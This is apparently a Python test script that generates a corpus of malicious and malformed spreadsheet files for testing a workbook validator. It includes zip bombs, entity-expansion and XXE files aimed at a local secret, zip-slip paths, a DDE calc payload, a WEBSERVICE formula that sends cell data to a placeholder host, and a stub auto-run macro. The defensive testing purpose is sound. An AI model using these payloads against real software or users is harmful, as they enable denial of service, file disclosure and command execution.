"""The hostile-input corpus: files that are not workbooks, protected or old workbooks, files built to
hurt a reader, odd but honest workbooks and formula injection — each with the outcome it must have.

A script, not a folder of binary blobs: every case is written from a few lines here, the large ones
(a 1 GB zip bomb, 100,000 rows, 10,000 sheets) as raw XML with zipfile, in a few seconds altogether.

    python tests/corpus/build.py OUT     # write every case to OUT and list them

`tests/test_corpus.py` builds the corpus once per test session and runs every case through the real
command line in a child process, with bounds on time and memory.
"""

from __future__ import annotations

import datetime as dt
import random
import shutil
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable
from xml.sax.saxutils import escape, quoteattr

from openpyxl.utils import get_column_letter

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/, for `workbooks` when run as a script

from workbooks import HEADER_BOTTOM, HEADER_MERGES, HEADER_TOP, good, write_form  # noqa: E402

SECRET_NAME = "secret.txt"
# What the external-entity cases point at: it must never appear in any output.
SECRET = "SECRET-ita-workbook-7f3a9c-ความลับ"

NOT_A_WORKBOOK = "not a workbook"
PROTECTED_OR_OLD = "protected or old"
BUILT_TO_HURT = "built to hurt"
ODD_BUT_HONEST = "odd but honest"
INJECTION = "injection"

# Text a spreadsheet program could take for a formula; every output must keep it as text.
INJECTED = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", '=HYPERLINK("http://example.invalid/x","คลิก")',
            '=WEBSERVICE("http://example.invalid/?q="&A1)', "=1+1")


@dataclass
class Case:
    name: str  # the file's stem
    group: str
    suffix: str
    make: Callable[[Path, Path], None]  # (the file to write, the corpus folder)
    what: str  # one line: what the file is
    exit: int  # validate's exit code
    codes: frozenset[str] = frozenset()  # every problem code validate reports, no more, no fewer
    reason: str | None = None  # the `value` of its unreadable-file problem
    projects: int | None = None  # projects validate counts in the file
    merge: bool = False  # also merge it (with --draft when validate finds errors) and check the master
    records: list[dict[str, Any]] = field(default_factory=list)  # expected rows of the master's data sheet
    needs: str | None = None  # "soffice" or "msoffcrypto": skipped where missing

    @property
    def filename(self) -> str:
        return self.name + self.suffix


# --- writing xlsx by hand -------------------------------------------------------------------------

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


class Raw(str):
    """A cell written as the XML given (a formula, rich text…); `{ref}` becomes the cell's address."""


def col_letters(col: int) -> str:
    return get_column_letter(col + 1)


def cell_xml(ref: str, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Raw):
        return value.replace("{ref}", ref)
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list[Any]], *, dimension: str | None = "auto", merges: tuple[str, ...] = (),
              hidden_rows: frozenset[int] = frozenset(), prolog: str = "", tail: str = "") -> bytes:
    """A worksheet part; rows start at row 1, `hidden_rows` are 1-based."""
    body = []
    for r, values in enumerate(rows, 1):
        cells = "".join(cell_xml(f"{col_letters(c)}{r}", v) for c, v in enumerate(values))
        hidden = ' hidden="1"' if r in hidden_rows else ""
        body.append(f'<row r="{r}"{hidden}>{cells}</row>')
    if dimension == "auto":
        dimension = f"A1:{col_letters(max((len(r) for r in rows), default=1) - 1)}{max(len(rows), 1)}"
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
             + "</mergeCells>") if merges else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
            f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{dim}<sheetData>{"".join(body)}</sheetData>'
            f"{merge}{tail}</worksheet>").encode()


def package_parts(sheet_names: list[str], *, shared_strings: bytes | None = None, hidden: frozenset[str] = frozenset(),
                  workbook_type: str = WORKBOOK_TYPE) -> dict[str, bytes]:
    """Every part of a package but the sheets themselves (xl/worksheets/sheetN.xml, N from 1)."""
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SHEET_TYPE}"/>'
                        for i in range(1, len(sheet_names) + 1))
    if shared_strings is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    sheets = "".join(f'<sheet name={quoteattr(n)} sheetId="{i}" r:id="rId{i}"'
                     f'{" state=" + chr(34) + "hidden" + chr(34) if n in hidden else ""}/>'
                     for i, n in enumerate(sheet_names, 1))
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheet_names) + 1))
    if shared_strings is not None:
        rels += f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{workbook_type}"/>{overrides}</Types>').encode(),
        "_rels/.rels": (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
                        f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
                        "</Relationships>").encode(),
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
                            f"<sheets>{sheets}</sheets></workbook>").encode(),
        "xl/_rels/workbook.xml.rels": (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
                                       f"{rels}</Relationships>").encode(),
    }
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    return parts


def write_xlsx(path: Path, sheets: dict[str, bytes], *, extra: dict[str, bytes] | None = None, **options) -> None:
    parts = package_parts(list(sheets), **options)
    parts.update({f"xl/worksheets/sheet{i}.xml": xml for i, xml in enumerate(sheets.values(), 1)})
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def form_rows(rows: list[list[Any]], title: bool = True) -> tuple[list[list[Any]], tuple[str, ...]]:
    """The form's title lines, its two-row merged header and `rows`, as write_form lays them out."""
    top = 3 if title else 1
    head = [["แผนปฏิบัติการป้องกันการทุจริต ประจำปี พ.ศ. ๒๕๖๖"], ["เทศบาลตำบลทดสอบ"]] if title else []
    return [*head, HEADER_TOP, HEADER_BOTTOM, *rows], tuple(m.format(t=top, b=top + 1) for m in HEADER_MERGES)


def form_sheet(rows: list[list[Any]], **options) -> bytes:
    grid, merges = form_rows(rows)
    return sheet_xml(grid, merges=merges + tuple(options.pop("merges", ())), **options)


# --- writing zips with chosen (lying) headers -------------------------------------------------------

def write_raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int, int]]) -> None:
    """entries: (name, stored bytes, method, crc32, compressed size, uncompressed size) — as declared,
    true or not: Python's zipfile cannot write a header that lies."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, csize, usize in entries:
        raw_name = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize,
                           len(raw_name), 0) + raw_name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, csize, usize,
                               len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))


def stored_entry(name: str, data: bytes) -> tuple[str, bytes, int, int, int, int]:
    return name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data), len(data)


def deflate_repeated(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """(deflate stream, crc32, size) of head + chunk * times + tail, without ever holding it inflated:
    after a full flush the compressor forgets its history, so the same chunk compresses to the same
    bytes every time and one compressed chunk can be repeated."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    last = comp.compress(tail) + comp.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return first + block * times + last, crc, len(head) + len(chunk) * times + len(tail)


BOMB_HEAD = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>').encode()
BOMB_TAIL = b"</t></is></c></row></sheetData></worksheet>"
BOMB_CHUNK = b" " * 2**20
BOMB_MB = 1100  # over 1 GB inflated


def bomb_parts() -> list[tuple[str, bytes, int, int, int, int]]:
    return [stored_entry(n, d) for n, d in package_parts(["แผน"]).items()]


def make_zip_bomb(path: Path, _: Path) -> None:
    data, crc, size = deflate_repeated(BOMB_HEAD, BOMB_CHUNK, BOMB_MB, BOMB_TAIL)
    write_raw_zip(path, [*bomb_parts(), ("xl/worksheets/sheet1.xml", data, zipfile.ZIP_DEFLATED, crc, len(data), size)])


def make_lying_zip_bomb(path: Path, _: Path) -> None:
    # Declares 100 KB with the CRC of its first 100 KB: a reader that trusts the header reads on to 1 GB.
    data, _crc, _size = deflate_repeated(BOMB_HEAD, BOMB_CHUNK, BOMB_MB, BOMB_TAIL)
    declared = len(BOMB_HEAD) + 100_000
    crc = zlib.crc32(BOMB_HEAD + BOMB_CHUNK[:100_000])
    write_raw_zip(path, [*bomb_parts(), ("xl/worksheets/sheet1.xml", data, zipfile.ZIP_DEFLATED, crc, len(data),
                                         declared)])


def make_many_entries(path: Path, _: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in package_parts(["แผน"]).items():
            zf.writestr(name, data)
        zf.writestr("xl/worksheets/sheet1.xml", form_sheet([good(1)]))
        for i in range(30_000):
            zf.writestr(f"xl/media/e{i}.bin", b"")


# --- the cases' files -------------------------------------------------------------------------------

def write_bytes(data: bytes) -> Callable[[Path, Path], None]:
    return lambda path, _: path.write_bytes(data)


def good_workbook(path: Path, rows: int = 2, department: str = "สำนักปลัด") -> Path:
    """Rows of `department`: a folder holding two departments' files names one in each (the same
    department in two files is `sent-twice`)."""
    return write_form(path, [good(i, department=department) for i in range(1, rows + 1)])


def make_truncated(path: Path, folder: Path) -> None:
    whole = good_workbook(folder / "_truncated-source.xlsx").read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    (folder / "_truncated-source.xlsx").unlink()


def make_zip_of(parts: dict[str, bytes]) -> Callable[[Path, Path], None]:
    def make(path: Path, _: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in parts.items():
                zf.writestr(name, data)
    return make


ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
ODS_MIME = b"application/vnd.oasis.opendocument.spreadsheet"


def ods_cell(value: Any) -> str:
    if value is None:
        return "<table:table-cell/>"
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f'<table:table-cell office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'
    return f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}</text:p></table:table-cell>'


def write_ods(path: Path, content_body: str, prolog: str = "") -> None:
    content = (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content {ODS_NS} office:version="1.2">'
               f"<office:body><office:spreadsheet>{content_body}</office:spreadsheet></office:body>"
               "</office:document-content>").encode()
    manifest = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                b'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                b'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), ODS_MIME)  # first and stored, as the format wants
        zf.writestr("META-INF/manifest.xml", manifest)
        zf.writestr("content.xml", content)


def ods_table(rows: list[list[Any]], name: str = "แผน") -> str:
    body = "".join("<table:table-row>" + "".join(ods_cell(v) for v in r) + "</table:table-row>" for r in rows)
    return f'<table:table table:name="{name}">{body}</table:table>'


def make_ods(path: Path, _: Path) -> None:
    grid, _merges = form_rows([good(1), good(2, budget=5000)])
    write_ods(path, ods_table(grid))


def make_ods_repeat_bomb(path: Path, _: Path) -> None:
    # One value repeated over every row and 64 columns: 67 million cells, under calamine's own limit
    # of 100 million, so that it tries to fill them (2 GB).
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="64"><text:p>x</text:p></table:table-cell>'
    write_ods(path, f'<table:table table:name="แผน"><table:table-row table:number-rows-repeated="1048576">{cell}'
                    "</table:table-row></table:table>")


def make_ods_laughs(path: Path, _: Path) -> None:
    grid, _merges = form_rows([good(1, name="&lol9;")])
    write_ods(path, ods_table(grid).replace("&amp;lol9;", "&lol9;"), prolog=LAUGHS_DTD.format(root="office:document-content"))


def make_ods_xxe(path: Path, folder: Path) -> None:
    grid, _merges = form_rows([good(1, name="&xxe;")])
    write_ods(path, ods_table(grid).replace("&amp;xxe;", "&xxe;"),
              prolog=XXE_DTD.format(root="office:document-content", url=(folder / SECRET_NAME).as_uri()))


LAUGHS_DTD = ('<!DOCTYPE {root} [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
              + "]>")
XXE_DTD = '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{url}">]>'


def shared_strings(strings: list[str], prolog: str = "", count: int | None = None) -> bytes:
    items = "".join(s if isinstance(s, Raw) else f"<si><t xml:space=\"preserve\">{escape(s)}</t></si>" for s in strings)
    n = len(strings) if count is None else count
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{MAIN_NS}" count="{n}" uniqueCount="{n}">'
            f"{items}</sst>").encode()


def shared_cell(index: int) -> Raw:
    return Raw(f'<c r="{{ref}}" t="s"><v>{index}</v></c>')


def make_entity_in_shared_strings(dtd: str, entity: str) -> Callable[[Path, Path], None]:
    def make(path: Path, folder: Path) -> None:
        sst = shared_strings([Raw(f"<si><t>{entity}</t></si>")],
                             prolog=dtd.format(root="sst", url=(folder / SECRET_NAME).as_uri()))
        write_xlsx(path, {"แผน": form_sheet([good(1, name=shared_cell(0))])}, shared_strings=sst)
    return make


def make_entity_in_sheet(dtd: str, entity: str) -> Callable[[Path, Path], None]:
    def make(path: Path, folder: Path) -> None:
        name = Raw(f'<c r="{{ref}}" t="inlineStr"><is><t>{entity}</t></is></c>')
        write_xlsx(path, {"แผน": form_sheet([good(1, name=name)],
                                            prolog=dtd.format(root="worksheet", url=(folder / SECRET_NAME).as_uri()))})
    return make


def make_xxe_in_properties(path: Path, folder: Path) -> None:
    """The sheet is clean for the reader, but its document properties point at a local file; one cell
    has an error so that --annotate opens the file with openpyxl, which reads the properties."""
    core = (f'<?xml version="1.0" encoding="UTF-8"?>{XXE_DTD.format(root="cp:coreProperties", url=(folder / SECRET_NAME).as_uri())}'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title><dc:creator>&xxe;</dc:creator>'
            "</cp:coreProperties>").encode()
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2, dimension=9)])}, extra={"docProps/core.xml": core})
    with zipfile.ZipFile(path, "a") as zf:
        rels = zf.read("_rels/.rels").replace(b"</Relationships>", (
            b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
            b'core-properties" Target="docProps/core.xml"/></Relationships>'))
    _replace_part(path, "_rels/.rels", rels)


def _replace_part(path: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(path) as zf:
        parts = [(i.filename, zf.read(i)) for i in zf.infolist() if i.filename != name]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, content in [*parts, (name, data)]:
            zf.writestr(part, content)


def make_merge_everything(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1)], merges=("A1:XFD1048576",))})


def make_merge_far(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2)], merges=("N1:XFD1048576",))})


def make_dimension_everything(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2)], dimension="A1:XFD1048576")})


def make_stale_dimension(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(i) for i in range(1, 21)], dimension="A1:B3")})


def make_format_last_cell(path: Path, _: Path) -> None:
    far = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2)]).replace(b"</sheetData>", far, 1)})


def make_value_last_cell(path: Path, _: Path) -> None:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'
    write_xlsx(path, {"แผน": form_sheet([good(1)]).replace(b"</sheetData>", far, 1)})


def make_many_rows(count: int) -> Callable[[Path, Path], None]:
    def make(path: Path, _: Path) -> None:
        write_xlsx(path, {"แผน": form_sheet([good(i) for i in range(1, count + 1)])})
    return make


def make_huge_text(path: Path, _: Path) -> None:
    # Words in a random order: a repeated word would compress past the zip ratio limit and never
    # reach the cell parser.
    words = ("ตัวชี้วัด", "ร้อยละ", "ประชาชน", "ความพึงพอใจ", "โครงการ", "อบรม", "ครั้ง", "คุณธรรม", "๘๐", "ไม่น้อยกว่า")
    pick = random.Random(5).choice
    text = " ".join(pick(words) for _ in range(150_000))[:1_000_000]
    write_xlsx(path, {"แผน": form_sheet([good(1, indicator=text), good(2)])})


def make_many_sheets(path: Path, _: Path) -> None:
    names = [f"แผ่นที่ {i}" for i in range(1, 10_001)]
    empty = sheet_xml([["ว่าง"]])
    write_xlsx(path, {name: (form_sheet([good(1)]) if i == 0 else empty) for i, name in enumerate(names)})


def make_lying_shared_count(path: Path, _: Path) -> None:
    sst = shared_strings(["โครงการที่นับจำนวนผิด"], count=2_000_000_000)
    write_xlsx(path, {"แผน": form_sheet([good(1, name=shared_cell(0))])}, shared_strings=sst)


def make_unclosed_cells(path: Path, _: Path) -> None:
    # Just under 1 MB, so that no zip ratio rule stops it: a scan matching up to the next ">" went
    # quadratic on cells that never close (8,000 of them took 19 s, so these about 15 minutes).
    body = b'<c r="A1"><f>1</f>' * 55_000
    write_xlsx(path, {"แผน": form_sheet([good(1)]).replace(b"</sheetData>", b'<row r="9">' + body + b"</sheetData>")})


def make_unclosed_sheets(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1)])})
    with zipfile.ZipFile(path) as zf:
        workbook = zf.read("xl/workbook.xml").replace(b"</sheets>", b"<sheet " * 140_000 + b"</sheets>")
    _replace_part(path, "xl/workbook.xml", workbook)


NESTING = 140_000  # levels; under 1 MB of XML, so that no zip ratio rule stops it


def make_nested_runs(path: Path, _: Path) -> None:
    name = Raw('<c r="{ref}" t="inlineStr"><is>' + "<r>" * NESTING + "<t>โครงการซ้อน</t>" + "</r>" * NESTING + "</is></c>")
    write_xlsx(path, {"แผน": form_sheet([good(1, name=name), good(2)])})


def make_nested_elements(path: Path, _: Path) -> None:
    # After the data, where only a full XML parser goes: openpyxl, for the --annotate copy.
    nested = b"<x>" * NESTING + b"</x>" * NESTING
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2, dimension=9)]).replace(b"</sheetData>",
                                                                                  b"</sheetData>" + nested)})


def make_zip_slip(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1)])},
               extra={"../../../../tmp/ita-workbook-zip-slip.txt": b"never extracted",
                      "/etc/ita-workbook-absolute.txt": b"never extracted"})


def make_encrypted(path: Path, folder: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = good_workbook(folder / "_plain.xlsx")
    with plain.open("rb") as src, path.open("wb") as dst:
        OOXMLFile(src).encrypt("1234", dst)
    plain.unlink()


def make_with_soffice(fmt: str) -> Callable[[Path, Path], None]:
    def make(path: Path, folder: Path) -> None:
        import subprocess
        import tempfile

        with tempfile.TemporaryDirectory(prefix="corpus-lo-") as work:
            source = write_form(Path(work) / f"{path.stem}.xlsx", [good(1), good(2, budget="10,000 บาท")],
                                extra_merges=("M5:M6",))
            subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{work}/profile",
                            "--convert-to", fmt, "--outdir", work, str(source)],
                           check=True, capture_output=True, timeout=180)
            shutil.move(Path(work) / f"{path.stem}.{fmt}", path)
    return make


def make_xlsm(path: Path, folder: Path) -> None:
    source = write_form(folder / "_macro-source.xlsx", [good(1), good(2, dimension=9)])
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
                    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                                         b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                                         b"</Relationships>")
            dst.writestr(item, data)
        # An OLE container named like Excel's, with an auto-run macro's source in it: never looked at, never run.
        dst.writestr("xl/vbaProject.bin", bytes.fromhex("d0cf11e0a1b11ae1") + b"Sub Workbook_Open()\nShell \"calc\"\nEnd Sub\n")
    source.unlink()


def make_formulas(cached: bool) -> Callable[[Path, Path], None]:
    def make(path: Path, _: Path) -> None:
        value = "<v>15000</v>" if cached else ""
        budget = Raw(f'<c r="{{ref}}"><f>10000+5000</f>{value}</c>')
        dimension = Raw(f'<c r="{{ref}}"><f>1+1</f>{"<v>2</v>" if cached else ""}</c>')
        name = Raw(f'<c r="{{ref}}" t="str"><f>"โครงการ"&amp;"สูตร"</f>{"<v>โครงการสูตร</v>" if cached else ""}</c>')
        write_xlsx(path, {"แผน": form_sheet([good(1, budget=budget, dimension=dimension, name=name)])})
    return make


def make_google_style(path: Path, _: Path) -> None:
    """As exporters write: like Google Sheets, no workbook view and rows without `spans`; no
    <dimension> and no styles part; and, like Power BI and SpreadJS exports, cells without an `r`
    reference, placed by their order in the row (calamine issue #261, exceljs #203, xlnt #6)."""
    grid, merges = form_rows([good(1), good(2, budget=2500.5, q3="/")])
    strings: list[str] = []
    rows = []
    for r, values in enumerate(grid, 1):
        cells = []
        for v in values:
            if v is None:
                cells.append("<c/>")
            elif isinstance(v, (int, float)):
                cells.append(f'<c t="n"><v>{v}</v></c>')
            else:
                strings.append(v)
                cells.append(f'<c t="s"><v>{len(strings) - 1}</v></c>')
        rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    merge = "".join(f'<mergeCell ref="{m}"/>' for m in merges)
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheetData>'
             f'{"".join(rows)}</sheetData><mergeCells count="{len(merges)}">{merge}</mergeCells></worksheet>').encode()
    write_xlsx(path, {"Sheet1": sheet}, shared_strings=shared_strings(strings))


def make_prefixed(path: Path, _: Path) -> None:
    """As the .NET Open XML SDK writes: every element with a namespace prefix."""
    plain = form_sheet([good(1), good(2)]).decode()
    prefixed = (plain.replace(f'<worksheet xmlns="{MAIN_NS}"', f'<x:worksheet xmlns:x="{MAIN_NS}"')
                .replace("</worksheet>", "</x:worksheet>"))
    for tag in ("dimension", "sheetData", "row", "c", "is", "t", "v", "mergeCells", "mergeCell"):
        prefixed = prefixed.replace(f"<{tag}>", f"<x:{tag}>").replace(f"<{tag} ", f"<x:{tag} ").replace(
            f"</{tag}>", f"</x:{tag}>")
    write_xlsx(path, {"แผน": prefixed.encode()})


def make_rich_text(path: Path, _: Path) -> None:
    rich = Raw('<si><r><rPr><b/><sz val="16"/><rFont val="TH SarabunPSK"/></rPr><t>โครงการ</t></r>'
               '<r><rPr><i/><color rgb="FFFF0000"/></rPr><t xml:space="preserve">อบรม </t></r><r><t>คุณธรรม</t></r></si>')
    inline = Raw('<c r="{ref}" t="inlineStr"><is><r><rPr><b/></rPr><t>มีการ</t></r><r><t>อบรม</t></r></is></c>')
    write_xlsx(path, {"แผน": form_sheet([good(1, name=shared_cell(0), indicator=inline)])},
               shared_strings=shared_strings([rich]))


def make_dates(path: Path, _: Path) -> None:
    book_path = write_form(path, [good(1), good(2), good(3)])
    import openpyxl

    book = openpyxl.load_workbook(book_path)
    sheet = book.active
    sheet["E5"] = dt.datetime(2023, 10, 1)  # 10/1 typed as a budget became 1 Oct
    sheet["D6"] = dt.date(2023, 1, 12)  # 12/1 typed as a quantity
    sheet["F7"] = dt.date(2023, 1, 2)  # "1/2" typed as มิติ
    book.save(book_path)


def make_duration(path: Path, _: Path) -> None:
    import openpyxl

    write_form(path, [good(1), good(2)])
    book = openpyxl.load_workbook(path)
    book.active["G5"] = dt.timedelta(hours=30, minutes=15)  # "30:15" typed into a cell formatted [h]:mm:ss
    book.active["G5"].number_format = "[h]:mm:ss"
    book.active["G6"] = dt.time(1, 30)  # "1:30" typed: Excel makes it a time of day
    book.save(path)


def make_hidden_rows(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1), good(2), good(3)], hidden_rows=frozenset({6}))})


def make_split_header(path: Path, _: Path) -> None:
    """The project header typed over two rows and merged across columns B:C, the quarters' header
    above them merged over four columns, units and quantities under a merged group."""
    top = ["ลำดับ", "แผนงาน/โครงการ/", None, "เป้าหมาย", None, "งบประมาณ", "มิติ", "ตัวชี้วัด", "ผลลัพธ์",
           "ระยะเวลาดำเนินการ", None, None, None, "หน่วยงาน"]
    bottom = ["ที่", "กิจกรรม", None, "หน่วยนับ", "ปริมาณงาน", "(บาท)", None, None, None,
              "ไตรมาส 1", "ไตรมาส 2", "ไตรมาส 3", "ไตรมาส 4", "รับผิดชอบ"]
    merges = ("B1:C1", "B2:C2", "D1:E1", "J1:M1", "G1:G2", "H1:H2", "I1:I2")
    rows = []
    for n in (1, 2):
        g = good(n)
        rows.append([g[0], g[1], None, *g[2:]])
    merges += ("B3:C3", "B4:C4")
    write_xlsx(path, {"แผน": sheet_xml([top, bottom, *rows], merges=merges)})


def make_two_tables(path: Path, _: Path) -> None:
    first, merges = form_rows([good(1), good(2)])
    totals = [None, "รวม 2 โครงการ", None, None, 0]
    second_top = len(first) + 2 + 1  # one blank row, then the second header
    grid = [*first, totals, [], HEADER_TOP, HEADER_BOTTOM, good(3, department="กองคลัง"), good(4, department="กองคลัง")]
    merges += tuple(m.format(t=second_top, b=second_top + 1) for m in HEADER_MERGES)
    write_xlsx(path, {"แผน": sheet_xml(grid, merges=merges)})


# Each FIELD-NOTES trap, as typed; the master must show the clean text.
THAI_TRAPS = [
    good(1, name="โครงการอบรม\u200bคุณธรรม\u200b", department="กอง คลัง", budget="๑o,ooo"),  # zero-width, PDF space, Latin o
    good(2, name="โครงการส่งเสริมการทํางาน", budget="1๐,๐00 บาท", quantity="๒o"),  # ํ + า for ำ; mixed digits
    good(3, name="โครงการสม่ัครสมาน", budget="-", dimension="๓", indicator="ร้อยละ ๘๐"),  # tone before vowel; "-"
    good(4, name="  โครงการ   เว้น\u00a0วรรค  ", department="สำนักปลัด\u200b", budget="ไม่ใช้ งบประมาณ", dimension="มิติที่ ๔"),
]


def make_thai_traps(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet(THAI_TRAPS)})


def make_injection(path: Path, _: Path) -> None:
    rows = [good(1, name=INJECTED[0], indicator=INJECTED[1], outcome=INJECTED[2], unit=INJECTED[3]),
            good(2, name=INJECTED[4], indicator=INJECTED[5], quantity="=1+1"),
            good(3, name="โครงการที่มีงบผิด", budget="=1+1", dimension="@SUM(A1)")]
    write_xlsx(path, {"แผน": form_sheet(rows)})


def make_openpyxl_formula_text(path: Path, _: Path) -> None:
    """Text starting with = stored the way Excel stores it when the cell is formatted as text."""
    import openpyxl

    write_form(path, [good(1), good(2)])
    book = openpyxl.load_workbook(path)
    for ref, text in (("B5", INJECTED[0]), ("G6", INJECTED[5])):
        book.active[ref] = text
        book.active[ref].data_type = "s"
